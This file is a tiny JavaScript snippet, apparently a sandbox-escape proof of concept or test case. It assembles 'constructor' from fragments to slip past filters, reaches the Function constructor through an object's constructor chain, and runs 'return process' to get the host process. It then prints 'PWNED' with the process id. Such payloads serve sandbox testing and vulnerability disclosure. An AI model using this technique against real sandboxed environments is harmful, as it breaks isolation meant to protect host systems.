'use strict';
const w = ['con', 'structor'].join('');
const t = { go: (f) => f[w] };
t.go({});
const fn = (x) => x;
Promise.allSettled([t]).then(([r]) => { const o = Date.now() > 1 ? r.value : {}; console.log('PWNED', o.go(fn)('return process')().pid); });
